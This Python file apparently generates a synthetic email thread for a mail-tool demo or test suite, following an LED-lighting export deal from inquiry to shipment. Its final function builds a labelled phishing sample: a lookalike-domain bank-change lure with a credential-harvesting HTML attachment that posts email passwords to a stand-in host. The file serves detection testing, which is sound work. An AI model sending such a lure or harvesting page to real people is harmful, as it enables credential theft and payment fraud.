"""The key-account deal: Sunrise Home Depot Inc. (USA), from first mail to shipment.

Michael Torres writes first from his personal Gmail while travelling, then from his
office address and through the shared purchasing mailbox; all three carry the same
signature. The thread runs inquiry -> quotation QT-2026-0187 (PDF) -> negotiation ->
internal approval -> revised offer -> PO# 4500012345 (PDF) -> proforma invoice (PDF) ->
deposit slip (PNG) -> inspection photos (inline images) -> shipping advice with B/L
and container numbers; every reply carries In-Reply-To/References (RFC 5322 s. 3.6.4).
A lookalike-domain phishing mail then slips into the same thread.
"""

from __future__ import annotations

from tradeinbox.demo._cast import (
    DAVID,
    LILY,
    LILY_SIGNATURE,
    Entry,
    Thread,
    entry,
    incoming,
    lily,
    pdf_part,
)
from tradeinbox.demo._envelope import Mail, corporate, gmail, internal, message_id, render
from tradeinbox.demo._files import png
from tradeinbox.demo._mime import (
    Person,
    attachment,
    clean,
    local,
    multipart,
    text,
)
from tradeinbox.demo._story_sunrise_docs import (
    BL,
    CONTAINERS,
    PI,
    PO,
    QUOTE,
    _photo,
    _scan,
    pi_pdf,
    po_pdf,
    quotation_pdf,
    shipping_pdf,
)

GMAIL = Person("Michael Torres", "mtorres.sourcing@gmail.com")
OFFICE = Person("Michael Torres", "m.torres@sunrise-home.example")
PURCHASE = Person("Sunrise Home Depot Purchasing", "purchase@sunrise-home.example")
PHISH = Person("Michael Torres", "m.torres@sunrise-h0me.example")
PHISH_REPLY_TO = Person("Michael Torres", "m.torres.sunrisehome@outlook.com")

SIGNATURE = """
Michael Torres
Senior Sourcing Manager - Lighting & Electrical
Sunrise Home Depot Inc.
1450 Peachtree Industrial Blvd, Suite 300, Norcross, GA 30071, USA
Tel: +1 (770) 555-0142 | Mobile: +1 (404) 555-0187
www.sunrise-home.example
"""

SUNRISE_ROUTE = corporate(
    "mail.sunrise-home.example", "198.51.100.36", "198.51.100.40", "10.1.20.57", True
)
GMAIL_ROUTE = gmail(41, "203.0.113.41")


def build() -> list[Entry]:
    out: list[Entry] = []

    m1, t1 = incoming(
        "sunrise-inquiry",
        GMAIL,
        "US",
        "2026-10-12 09:14",
        "Inquiry - LED panels and downlights for Sunrise Home Depot",
        """
Hi Lily,

I am the sourcing manager for lighting at Sunrise Home Depot Inc. We run 46 home
improvement stores in Georgia, the Carolinas and Florida. I found your company on
your website and I am traveling this week, so I am writing from my personal email.

We are looking for a new source for our spring 2027 reset. Please quote:

1. 2x2 ft LED flat panel, 40W, 5000K, 0-10V dimmable - 3,000 pcs
2. 2x4 ft LED flat panel, 50W, 5000K, 0-10V dimmable - 2,000 pcs
3. 6 inch LED recessed downlight, 12W, CCT selectable 2700K-5000K,
   TRIAC dimmable, IC rated, wet location - 20,000 pcs

Requirements: UL or ETL listed (must be in the UL database), DLC for the panels,
Energy Star for the downlights, FCC Part 15, RoHS. We also need CE documents
because some of the volume goes to our partner in Puerto Rico and the Caribbean.
Packaging must be retail-ready with UPC and Prop 65 labels.

Please send your best FOB Ningbo price, lead time, and copies of the UL
certificates. If the samples pass our lab we can place the first order in
late October.
"""
        + SIGNATURE,
        GMAIL_ROUTE,
        style="gmail",
        client=[],
    )
    out.append(
        entry(
            "sunrise-inquiry-from-gmail",
            m1,
            "USA key account: first inquiry (specs, UL/DLC/CE/RoHS, quantities) from the buyer's personal Gmail",
        )
    )

    m2, t2 = lily(
        "sunrise-questions",
        [GMAIL],
        "RE: Inquiry - LED panels and downlights for Sunrise Home Depot",
        "2026-10-13 08:45",
        """
Dear Michael,

Thank you for your inquiry and for considering Brightway. We are a manufacturer of
LED panels and downlights in Ningbo since 2009, with UL, DLC and Energy Star listings
and customers in the USA, Canada and Europe.

Before I prepare the quotation, may I confirm:
1. Panels: frame color white? Do you need the back-lit or edge-lit type?
2. Downlights: 5 CCT (2700/3000/3500/4000/5000K) or 3 CCT?
3. Do you need our UL file in your company name (private label)?

I will send the quotation within two days after your answer. Could you also give me
your company email for our customer file?
""",
        previous=t1,
    )
    out.append(
        entry(
            "sunrise-lily-asks-details",
            m2,
            "Sent: Lily asks the Gmail buyer for details and his company address",
        )
    )

    m3, t3 = incoming(
        "sunrise-office",
        OFFICE,
        "US",
        "2026-10-14 10:30",
        "RE: Inquiry - LED panels and downlights for Sunrise Home Depot",
        """
Hi Lily,

Thanks for the quick reply. I am back in the office, please use this email
(m.torres@sunrise-home.example) from now on, and copy purchase@sunrise-home.example
on any order documents.

1. White frame, back-lit type for both panel sizes.
2. 5 CCT, with the switch on the junction box.
3. Yes, private label: brand "SUNRISE PRO" on product and box. UL file can stay in
   your name as long as it is listed under our brand as well.

Target: ship before November 20 so the goods reach our DC in Savannah before
Christmas.
"""
        + SIGNATURE,
        SUNRISE_ROUTE,
        previous=t2,
        cc=[GMAIL],
    )
    out.append(
        entry(
            "sunrise-reply-from-office-address",
            m3,
            "The same buyer now writes from his company domain (same signature) and names the purchasing mailbox",
        )
    )

    m4, t4 = lily(
        "sunrise-quotation",
        [OFFICE],
        f"Quotation {QUOTE} - LED panels & downlights for Sunrise Home Depot",
        "2026-10-15 09:30",
        f"""
Dear Michael,

Thank you for the details. Please find attached our quotation {QUOTE}:

- BW-PL22-40D  2x2 ft panel 40W  USD 14.80/pc
- BW-PL24-50D  2x4 ft panel 50W  USD 21.50/pc
- BW-DL6-12CCT 6" downlight 12W  USD 3.95/pc
Total for the quantities you gave: USD 166,400.00 FOB Ningbo.

Lead time is 25-30 days after deposit, so shipping before November 20 is possible
if we receive your PO by October 23. Private label "SUNRISE PRO" is included.
UL certificates (file E512345) and DLC/Energy Star listings are available on request.

The quotation is valid until November 14, 2026.
""",
        previous=t3,
        attachments=[pdf_part(quotation_pdf(), f"{QUOTE} Sunrise Home Depot.pdf")],
    )
    out.append(
        entry(
            "sunrise-quotation-QT-2026-0187",
            m4,
            f"Sent: quotation {QUOTE} with a valid PDF attachment",
        )
    )

    m5, t5 = incoming(
        "sunrise-negotiation",
        OFFICE,
        "US",
        "2026-10-19 11:20",
        f"RE: Quotation {QUOTE} - LED panels & downlights for Sunrise Home Depot",
        """
Hi Lily,

Thanks for the quotation. Quality and certificates look good, but the prices are
above our budget. We have another offer from a factory in Zhongshan that is about
10% lower. Our target prices are:

- 2x2 panel: USD 13.20
- 2x4 panel: USD 19.50
- 6" downlight: USD 3.45

If you can come close to these, and include 1% free spare drivers, I can issue the
PO this week. Payment 30% deposit / 70% against B/L copy is fine for us.
"""
        + SIGNATURE,
        SUNRISE_ROUTE,
        previous=t4,
    )
    out.append(
        entry(
            "sunrise-negotiation-target-prices",
            m5,
            "Buyer negotiates: target prices and conditions",
        )
    )

    m6, t6 = lily(
        "sunrise-approval-request",
        [DAVID],
        f"申请特价：Sunrise Home Depot（美国）{QUOTE}",
        "2026-10-20 09:10",
        f"""
王总，您好：

美国客户 Sunrise Home Depot 对报价单 {QUOTE} 回复了目标价，说中山有工厂便宜约 10%。
客户有 46 家门店，是我们今年最有希望的大客户，第一单约两个 40HQ。

目标价：2x2 面板灯 13.20 美元，2x4 面板灯 19.50 美元，6 寸筒灯 3.45 美元。
按目标价做会亏本。我建议：14.05 / 20.40 / 3.72 美元，送 1% 备用驱动，
毛利约 11%，总额 157,350 美元，FOB 宁波，30% 定金，70% 见提单副本付款。

请您批准，谢谢！

Lily
""",
        signature=False,
    )
    m6.body = text(clean(t6.own_text), "plain", "utf-8", "8bit")
    m6.client = [("X-Mailer", "Foxmail 7.2.25.375[cn]")]
    out.append(
        entry(
            "internal-approval-request-zh",
            m6,
            "Sent (internal, Chinese, 8bit UTF-8): Lily asks her manager to approve a special price",
        )
    )

    m7, t7 = _david_reply(m6, t6)
    out.append(m7)

    m8, t8 = lily(
        "sunrise-revised",
        [OFFICE],
        f"RE: Quotation {QUOTE} - revised prices for Sunrise Home Depot",
        "2026-10-20 15:30",
        """
Dear Michael,

I discussed your target prices with our general manager, Mr. David Wang (in copy).
Your prices are below our material cost, but to start the cooperation we can offer:

- 2x2 panel: USD 14.05
- 2x4 panel: USD 20.40
- 6" downlight: USD 3.72
- 1% free spare drivers, packed separately

Total USD 157,350.00 FOB Ningbo for 3,000 + 2,000 + 20,000 pcs, 2 x 40HQ.
This is our best price. If you send the PO by October 23 we keep the shipping date.
""",
        previous=t5,
        cc=[DAVID],
    )
    out.append(
        entry(
            "sunrise-revised-offer",
            m8,
            "Sent: revised offer after internal approval, manager in Cc",
        )
    )

    m9, t9 = incoming(
        "sunrise-po",
        PURCHASE,
        "US",
        "2026-10-23 09:12",
        f"PO# {PO} - Ningbo Brightway Lighting - LED panels & downlights",
        f"""
Dear Lily,

Please find attached our purchase order PO# {PO} based on your revised offer of
October 20 (quotation {QUOTE}).

Total: USD 157,350.00 FOB Ningbo, ship window 11/10/2026 - 11/20/2026.
Please confirm the PO and send your proforma invoice for the 30% deposit.
Quote PO# {PO} on all documents and cartons.
"""
        + SIGNATURE,
        SUNRISE_ROUTE,
        previous=t8,
        cc=[OFFICE],
        attachments=[pdf_part(po_pdf(), f"PO_{PO}.pdf")],
    )
    out.append(
        entry(
            "sunrise-po-4500012345",
            m9,
            f"PO# {PO} from the shared purchasing address (third address, same signature), PDF attached",
        )
    )

    m10, t10 = lily(
        "sunrise-pi",
        [PURCHASE, OFFICE],
        f"RE: PO# {PO} - Proforma Invoice {PI}",
        "2026-10-24 08:40",
        f"""
Dear Michael,

Thank you very much for your order! We confirm PO# {PO}.

Attached is our proforma invoice {PI}. Please arrange the 30% deposit of
USD 47,205.00 to the bank account on the PI. Production starts as soon as the
deposit is received; the goods will be ready around November 10.

Please note: our bank details will never change by email. If you ever receive a
mail saying our account has changed, please call me first.
""",
        previous=t9,
        attachments=[pdf_part(pi_pdf(), f"{PI} PO{PO}.pdf")],
    )
    out.append(
        entry(
            "sunrise-proforma-invoice", m10, f"Sent: proforma invoice {PI} (PDF) with bank details"
        )
    )

    slip = png(96, 64, _scan)
    m11, t11 = incoming(
        "sunrise-deposit",
        OFFICE,
        "US",
        "2026-10-27 10:05",
        f"RE: PO# {PO} - Proforma Invoice {PI}",
        """
Hi Lily,

The 30% deposit of USD 47,205.00 was wired today. Wire confirmation attached.
Please start production and send me pictures of the first pieces off the line.
"""
        + SIGNATURE,
        SUNRISE_ROUTE,
        previous=t10,
        attachments=[attachment(slip, f"Wire_Confirmation_PO{PO}.png", "image/png")],
    )
    out.append(
        entry(
            "sunrise-deposit-wire-slip",
            m11,
            "Buyer confirms the deposit, wire slip as a valid PNG attachment",
        )
    )

    m12, t12 = lily(
        "sunrise-deposit-received",
        [OFFICE],
        f"RE: PO# {PO} - deposit received, production started",
        "2026-10-29 10:15",
        f"""
Dear Michael,

We received the deposit today, thank you. Production of PO# {PO} has started.
I will send photos of the first pieces and the pre-shipment inspection.
""",
        previous=t11,
    )
    out.append(entry("sunrise-deposit-received", m12, "Sent: deposit received, production started"))

    m13, t13 = incoming(
        "sunrise-status",
        OFFICE,
        "US",
        "2026-11-11 09:30",
        f"RE: PO# {PO} - production status?",
        """
Hi Lily,

How is production going? We need the pre-shipment inspection photos (product,
labels, carton marks) before you load, and the booking details.
"""
        + SIGNATURE,
        SUNRISE_ROUTE,
        previous=t12,
    )
    out.append(
        entry(
            "sunrise-production-status",
            m13,
            "Buyer asks for inspection photos (US date now -0500 after DST ended)",
        )
    )

    out.append(_inspection_photos(t13))
    m16, t16 = _shipping_advice(t13)
    out.append(
        entry(
            "sunrise-shipping-advice-bl",
            m16,
            "Sent: shipping advice with B/L number, container numbers (ISO 6346 check digits) and tracking",
        )
    )
    out.append(_phishing(t16))

    m18, _ = incoming(
        "sunrise-docs-received",
        GMAIL,
        "US",
        "2026-11-18 07:52",
        f"Re: PO# {PO} - Shipping advice - B/L {BL}",
        """
Hi Lily,

Got the B/L copy and the docs, thanks. I am at a vendor meeting in Chicago, writing
from my phone. Our AP team will release the balance this week to the account on
your PI.
"""
        + SIGNATURE
        + "\nSent from my iPhone\n",
        GMAIL_ROUTE,
        style="gmail",
        previous=t16,
        cc=[OFFICE],
        client=[],
    )
    out.append(
        entry(
            "sunrise-docs-received-gmail",
            m18,
            "The real buyer answers from his Gmail again (phone), balance to the PI account",
        )
    )
    return out


def _david_reply(request: Mail, request_thread: Thread) -> tuple[Entry, Thread]:
    when = local("CN", "2026-10-20 10:05")
    own = clean(
        """
Lily，

同意按 14.05 / 20.40 / 3.72 美元报价，送 1% 备用驱动。
定金到账后再下生产单，注意 UL 标签要用 SUNRISE PRO 品牌，包装上的 UPC 码让客户先确认。
第一单做好了，明年争取做他们的整条线。

王伟
"""
    )
    mail = Mail(
        key="david-approval",
        sender=DAVID,
        to=[LILY],
        subject=f"回复：{request.subject}",
        date=when,
        body=text(
            own + "\n\n------------------ 原始邮件 ------------------\n" + request_thread.own_text,
            "plain",
            "gb2312",
            "base64",
        ),
        msgid=message_id("foxmail", "david-approval", "brightway-lighting.example", when),
        in_reply_to=request.msgid,
        references=[request.msgid],
        subject_charset="gb2312",
        client=[("X-Mailer", "Foxmail 7.2.25.375[cn]")],
    )
    data = internal(mail, "192.168.10.31")
    return Entry(
        "internal-manager-approves-gb2312",
        when,
        "Internal reply from the manager in Chinese (GB2312, base64, RFC 2047 subject)",
        data,
    ), Thread(mail, own)


def _inspection_photos(previous: Thread) -> Entry:
    """multipart/related: HTML with two inline PNG photos referenced by cid: (RFC 2392)."""
    key = "sunrise-photos"
    own = clean(
        f"""
Dear Michael,

Production of PO# {PO} is finished. Please see the inspection photos below:
photo 1 is the 2x2 panel with the SUNRISE PRO label, photo 2 the carton mark.
All 2,250 cartons are packed. The booking is confirmed for the vessel of November 15.
"""
        + LILY_SIGNATURE
    )
    html = (
        "<html><body><div>Dear Michael,</div><div><br></div>"
        f"<div>Production of PO# {PO} is finished. Please see the inspection photos below:</div>"
        '<div><img src="cid:photo1@brightway" alt="2x2 panel with label"></div>'
        '<div><img src="cid:photo2@brightway" alt="carton mark"></div>'
        "<div>All 2,250 cartons are packed. The booking is confirmed for the vessel of November 15.</div>"
        + "".join(f"<div>{line}</div>" for line in LILY_SIGNATURE.strip().split("\n"))
        + "</body></html>\n"
    )
    related = multipart(
        "related",
        key,
        [
            text(html, "html", "utf-8", "base64"),
            attachment(
                png(64, 48, _photo(1)),
                "IMG_20261112_093512.png",
                "image/png",
                inline_cid="photo1@brightway",
            ),
            attachment(
                png(64, 48, _photo(2)),
                "IMG_20261112_094020.png",
                "image/png",
                inline_cid="photo2@brightway",
            ),
        ],
        "foxmail",
        type="text/html",
    )
    body = multipart(
        "alternative", key, [text(own, "plain", "utf-8", "base64"), related], "foxmail"
    )
    mail, _ = lily(
        key,
        [OFFICE],
        f"RE: PO# {PO} - inspection photos",
        "2026-11-12 10:00",
        own,
        previous=previous,
        signature=False,
    )
    mail.body = body
    mail.client[2] = ("X-Has-Attach", "yes")
    return Entry(
        "sunrise-inspection-photos-inline",
        mail.date,
        "Sent: HTML mail with two inline PNG photos (multipart/related, cid: links)",
        render(mail),
    )


def _shipping_advice(previous: Thread) -> tuple[Mail, Thread]:
    return lily(
        "sunrise-shipping",
        [OFFICE, PURCHASE],
        f"PO# {PO} - Shipping advice - B/L {BL}",
        "2026-11-16 14:20",
        f"""
Dear Michael,

Good news: PO# {PO} has been shipped. Details:

Vessel / voyage: PACIFIC CREST VIRTUE V.046E
B/L No.: {BL}
Containers: {CONTAINERS[0]} / {CONTAINERS[1]} (2 x 40HQ)
Port of loading: Ningbo, China - ETD: Nov. 15, 2026
Port of discharge: Savannah, GA, USA - ETA: Dec. 14, 2026
Packages: 2,250 cartons, G.W. 16,760 kgs, 131.6 CBM

Track the containers at www.pacificcrest-lines.example with the B/L number.
Attached: copy of the commercial invoice and packing list.

Balance USD 110,145.00 is due against the B/L copy, to the account on PI {PI}.
The original documents go by DHL, AWB No. 4829301756, once the balance is received.
""",
        previous=previous,
        attachments=[pdf_part(shipping_pdf(), f"CI_PL_PO{PO}.pdf")],
    )


def _phishing(previous: Thread) -> Entry:
    """A lookalike of the buyer's domain ("h0me" with a zero) replying into the thread."""
    page = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Secure Document - Invoice_4500012345.pdf</title></head>
<body style="font-family:Segoe UI,Arial;background:#f3f3f3">
<div style="width:360px;margin:60px auto;background:#fff;padding:24px">
<h3>Secure PDF Viewer</h3>
<p>This document is protected. Sign in with your email account to view
<b>Invoice_4500012345.pdf</b> (214 KB).</p>
<form method="post" action="https://docs-secureview.example/owa/verify.php">
<input type="email" name="login" value="lily@brightway-lighting.example"><br>
<input type="password" name="passwd" placeholder="Email password"><br>
<button type="submit">View Document</button>
</form></div></body></html>
"""
    mail, _ = incoming(
        "sunrise-phish",
        PHISH,
        "NG",
        "2026-11-17 11:48",
        f"RE: PO# {PO} - Shipping advice - B/L {BL}",
        f"""
Hi Lily,

Thanks for the shipping advice. Please be informed that our bank account has changed
due to an ongoing audit, and the balance payment of USD 110,145.00 for PO# {PO}
will be sent from our new account.

Find attached the invoice and payment advice. Kindly open it, sign in to view the
secured document and confirm your beneficiary details so our accounts team can
release the payment today. Please reply to this email only, my office line is down.
"""
        + SIGNATURE,
        corporate("srv1.fastvps-hosting.example", "203.0.113.66", "192.0.2.147", "10.0.2.15"),
        previous=previous,
        attachments=[attachment(page.encode(), f"Invoice_{PO}.pdf.html", "text/html")],
        reply_to=[PHISH_REPLY_TO],
        auth=("fail", "fail", "fail"),
        tamper=lambda body: body.replace(b"Hi Lily,", b"Hi Lily!", 1),
        client=[("X-Mailer", "PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)")],
        msgid_style="php",
    )
    return Entry(
        "phishing-lookalike-bank-change",
        mail.date,
        "PHISHING: lookalike domain sunrise-h0me.example, 'bank account has changed', Reply-To to free-mail, SPF/DKIM/DMARC fail, Invoice_4500012345.pdf.html",
        render(mail),
    )
